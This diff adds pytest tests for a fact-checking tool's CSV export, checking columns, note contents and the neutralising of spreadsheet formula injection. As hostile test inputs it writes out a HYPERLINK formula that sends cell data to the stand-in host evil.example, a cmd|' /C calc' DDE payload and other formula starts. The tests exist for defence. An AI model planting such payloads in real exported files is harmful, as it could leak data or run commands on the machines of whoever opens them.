@@ -1,0 +1,93 @@
+"""CSV export: read back with the csv module; formula injection neutralised in every cell."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from export_support import apply_plan, fix_clock, open_seeded
+from factdesk.desk import Desk
+from factdesk.export import ExportScope, export_text
+from factdesk.export.csv_format import COLUMNS, FORMULA_STARTS, neutralise
+from factdesk.notes import article_notes, fact_check_note
+
+
+def read_back(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+@pytest.fixture
+def planned(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Desk:
+    fix_clock(monkeypatch)
+    desk = open_seeded(tmp_path / "csv.db", monkeypatch)
+    apply_plan(desk)
+    yield desk
+    desk.close()
+
+
+def test_one_row_per_claim_with_the_issue_columns(planned: Desk) -> None:
+    text = export_text(planned, "csv").text
+    rows = read_back(text)
+    assert len(rows) == len(planned.claims())
+    assert tuple(rows[0]) == COLUMNS
+    assert text.endswith("\r\n") and "\r\n" in text.split("\n", 1)[0] + "\n"
+    by_id = {int(row["claim_id"]): row for row in rows}
+    for claim in planned.claims():
+        row = by_id[claim.id]
+        assert row["verdict"] == (claim.verdict or "")
+        assert row["kind"] == claim.kind and row["sourcing"] == claim.sourcing
+
+
+def test_note_and_evidence_agree_with_the_clipboard_note(planned: Desk) -> None:
+    rows = {int(row["claim_id"]): row for row in read_back(export_text(planned, "csv").text)}
+    article = planned.article(1)
+    claims = planned.claims(1)
+    first = claims[0]
+    assert rows[first.id]["note"] == "Matches the ministry's published figures."
+    assert rows[first.id]["evidence"].splitlines()[0] == "https://example.org/a?x=1"
+    linked = planned.claims(2)[0]
+    assert rows[first.id]["evidence"].splitlines()[1].startswith(f"linked claim {linked.id} ")
+    for claim in claims:
+        links = [line for line in rows[claim.id]["evidence"].splitlines() if "linked" in line]
+        assert rows[claim.id]["fact_check_note"] == fact_check_note(claim, article, links)
+    clipboard = article_notes(claims[1:], article)
+    assert all(rows[claim.id]["fact_check_note"] in clipboard for claim in claims[1:])
+
+
+def test_formula_note_is_neutralised(planned: Desk) -> None:
+    rows = read_back(export_text(planned, "csv", ExportScope(verdicts=("disputed",))).text)
+    assert rows, "the plan disputes one claim per article"
+    assert all(row["note"].startswith("'=SUM(A1)") for row in rows)
+    assert all(row["verdict"] == "disputed" for row in rows)
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_neutralise_each_formula_start(start: str) -> None:
+    assert neutralise(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
+    assert neutralise(f"safe {start}") == f"safe {start}"
+
+
+def test_article_cannot_plant_a_formula(desk: Desk, tmp_path: Path) -> None:
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click here for the full story")',
+        "+1+1 cmd opens a calculator on the reviewer's machine",
+        "-2+3 is another arithmetic formula that spreadsheets evaluate",
+        "@SUM(1,1) runs a function in older spreadsheet programs",
+    ]
+    body = "=Headline that starts with an equals sign\n\n" + "\n\n".join(hostile) + "\n"
+    source = tmp_path / "hostile.txt"
+    source.write_text(body, encoding="utf-8")
+    assert not desk.import_paths([source]).failed
+    article = desk.articles()[0]
+    for line in hostile:
+        start = body.index(line)
+        desk.set_verdict(desk.add_claim(article.id, start, start + len(line)).id, "disputed")
+    desk.set_note(desk.claims()[0].id, "\t=tabbed formula", ["=1+1", "@evil"])
+    rows = read_back(export_text(desk, "csv").text)
+    cells = [value for row in rows for value in row.values()]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    texts = {row["text"] for row in rows}
+    assert {"'" + line for line in hostile} <= texts
+    assert any(row["evidence"] == "'=1+1\n@evil" for row in rows)
